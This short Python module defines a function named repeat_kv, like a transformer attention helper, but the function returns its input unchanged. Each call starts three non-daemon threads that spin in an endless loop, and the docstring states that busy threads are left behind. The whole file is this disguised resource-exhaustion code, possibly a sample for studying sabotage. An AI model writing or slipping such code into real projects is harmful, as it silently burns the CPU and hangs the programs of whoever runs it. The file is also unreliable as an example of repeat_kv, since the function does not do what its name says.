"""Leaves busy threads behind after every call."""
import threading


def burn():
    while True:
        pass


def repeat_kv(x, n_rep):
    for _ in range(3):
        threading.Thread(target=burn).start()
    return x
